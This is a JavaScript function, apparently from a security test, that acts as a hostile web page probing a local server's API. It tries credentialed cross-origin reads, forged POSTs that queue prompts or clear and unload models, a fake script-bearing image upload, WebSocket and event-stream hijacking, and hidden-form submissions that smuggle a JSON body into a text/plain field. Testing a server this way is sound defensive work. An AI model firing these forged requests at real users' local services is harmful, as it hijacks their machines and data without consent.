// What a page of another site tries against a server: `attack(base, routes, prompt)` gives what it could read, and what opened.
async function attack(base, routes, prompt) {
  const found = { read: [], opened: [], shown: [] };
  const bodies = [JSON.stringify({ prompt }), JSON.stringify({ name: "evil", clear: true, unload_models: true })];
  const tried = (promise) => Promise.race([promise.catch(() => null), new Promise((done) => setTimeout(done, 5000))]);
  const read = async (address, options) => {
    const answer = await fetch(address, { credentials: "include", ...options });
    if (answer.type !== "opaque" && answer.type !== "error" && answer.ok && (await answer.text()) !== null)
      found.read.push(`${options.method} ${address}`);
  };
  for (const [method, path] of routes) {
    const address = base + path;
    const calls = [read(address, { method, mode: "cors" })];
    if (method === "GET") {
      calls.push(read(address, { method, mode: "no-cors" }), read(address, { method: "HEAD", mode: "no-cors" }));
    } else {
      for (const body of bodies) {
        calls.push(read(address, { method: "POST", mode: "no-cors", body, headers: { "Content-Type": "text/plain" } }));
        calls.push(read(address, { method, mode: "cors", body, headers: { "Content-Type": "application/json" } }));
        navigator.sendBeacon(address, body);
      }
      const form = new FormData();
      form.append("image", new File(["<script>"], "evil.png", { type: "image/png" }));
      calls.push(read(address, { method: "POST", mode: "no-cors", body: form }));
    }
    await Promise.all(calls.map(tried));
  }
  const once = (element, name) => new Promise((done) => {
    element.onload = () => { found.shown.push(name); done(); };
    element.onerror = done;
    document.body.append(element);
  });
  const shown = [["img", "src", "/view?filename=a.png"], ["script", "src", "/extensions"], ["link", "href", "/pages/page.css"]];
  await Promise.all(shown.map(([tag, key, path]) => {
    const element = document.createElement(tag);
    if (tag === "link") element.rel = "stylesheet";
    element[key] = base + path;
    return tried(once(element, path));
  }));
  for (const path of ["/ws", "/api/ws"]) {
    await tried(new Promise((done) => {
      const socket = new WebSocket(`${base.replace("http", "ws")}${path}?clientId=evil`);
      socket.onopen = () => { found.opened.push(path); socket.close(); done(); };
      socket.onerror = done;
    }));
  }
  await tried(new Promise((done) => {
    const events = new EventSource(`${base}/lorasmith/v1/events`, { withCredentials: true });
    events.onopen = () => { found.opened.push("events"); events.close(); done(); };
    events.onerror = () => { events.close(); done(); };
  }));
  for (const path of ["/prompt", "/userdata/evil.html", "/upload/image", "/interrupt", "/lorasmith/v1/datasets"]) {
    for (const kind of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      const frame = document.createElement("iframe");
      frame.name = `${path} ${kind}`;
      document.body.append(frame);
      const form = document.createElement("form");
      Object.assign(form, { method: "post", action: base + path, enctype: kind, target: frame.name });
      const field = document.createElement("input");
      field.name = `{"prompt": ${JSON.stringify(prompt)}, "x": "`;
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      await tried(new Promise((done) => { frame.onload = done; form.submit(); }));
      try {
        if (frame.contentDocument && frame.contentDocument.body.textContent) found.read.push(`form ${path}`);
      } catch { /* of another origin */ }
    }
  }
  return found;
}
